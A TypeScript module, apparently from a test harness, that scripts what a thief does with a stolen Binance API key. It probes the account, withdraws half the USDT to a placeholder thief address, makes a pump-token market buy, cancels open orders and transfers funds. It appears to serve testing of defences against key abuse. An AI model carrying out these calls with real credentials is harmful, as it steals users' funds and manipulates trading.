import { isJsonFault, isJsonObject, parseJson } from '../../../core/index.ts';
import type { Param, ThiefCall, ThiefHand, ThiefSeen } from '../../front.ts';
import { signBinance } from './auth.ts';

const api = (method: string, path: string, ...params: Param[]): ThiefCall => ({
  method,
  host: 'api.binance.com',
  path,
  params,
});
const fapi = (method: string, path: string, ...params: Param[]): ThiefCall => ({
  method,
  host: 'fapi.binance.com',
  path,
  params,
});

/** What someone does with a stolen Binance key, in the order in which it pays. */
export const binanceThief: ThiefHand = {
  sign: signBinance,
  worked: (status) => status === 200,
  steps: [
    {
      name: 'probe',
      calls: () => [
        api('GET', '/sapi/v1/account/apiRestrictions'),
        api('GET', '/api/v3/account'),
        api('GET', '/api/v3/openOrders'),
        fapi('GET', '/fapi/v1/openAlgoOrders'),
      ],
    },
    { name: 'withdraw', calls: (seen) => [withdrawal(seen)] },
    {
      name: 'buy',
      calls: () => [
        api(
          'POST',
          '/api/v3/order',
          ['symbol', 'PUMPUSDT'],
          ['side', 'BUY'],
          ['type', 'MARKET'],
          ['quoteOrderQty', '500'],
        ),
      ],
    },
    { name: 'cancel', calls: (seen) => cancels(seen) },
    {
      name: 'transfer',
      calls: () => [
        api('POST', '/sapi/v1/asset/transfer', ['type', 'MAIN_UMFUTURE'], ['asset', 'USDT'], ['amount', '100']),
      ],
    },
  ],
};

/** Everything free in USDT, as the probe saw it. */
function withdrawal(seen: readonly ThiefSeen[]): ThiefCall {
  const account = seen.find(({ call }) => call.path === '/api/v3/account');
  const free = freeOf(account?.body ?? '', 'USDT') ?? '100';
  return api(
    'POST',
    '/sapi/v1/capital/withdraw/apply',
    ['coin', 'USDT'],
    ['network', 'TRX'],
    ['address', 'the-address-of-the-thief'],
    ['amount', String(Math.floor(Number(free) / 2))],
  );
}

function cancels(seen: readonly ThiefSeen[]): ThiefCall[] {
  const symbolsIn = (path: string) => {
    const value = parseJson(seen.find(({ call }) => call.path === path)?.body ?? '[]');
    if (isJsonFault(value) || !Array.isArray(value)) return [];
    return [...new Set(value.map((order) => (isJsonObject(order) ? String(order.symbol) : '')))].filter(
      (symbol) => symbol !== '',
    );
  };
  return [
    ...symbolsIn('/api/v3/openOrders').map((symbol) => api('DELETE', '/api/v3/openOrders', ['symbol', symbol])),
    ...symbolsIn('/fapi/v1/openAlgoOrders').map((symbol) =>
      fapi('DELETE', '/fapi/v1/algoOpenOrders', ['symbol', symbol]),
    ),
  ];
}

function freeOf(body: string, asset: string): string | undefined {
  const value = parseJson(body);
  if (isJsonFault(value) || !isJsonObject(value) || !Array.isArray(value.balances)) return undefined;
  const row = value.balances.find((balance) => isJsonObject(balance) && balance.asset === asset);
  return isJsonObject(row) ? String(row.free) : undefined;
}
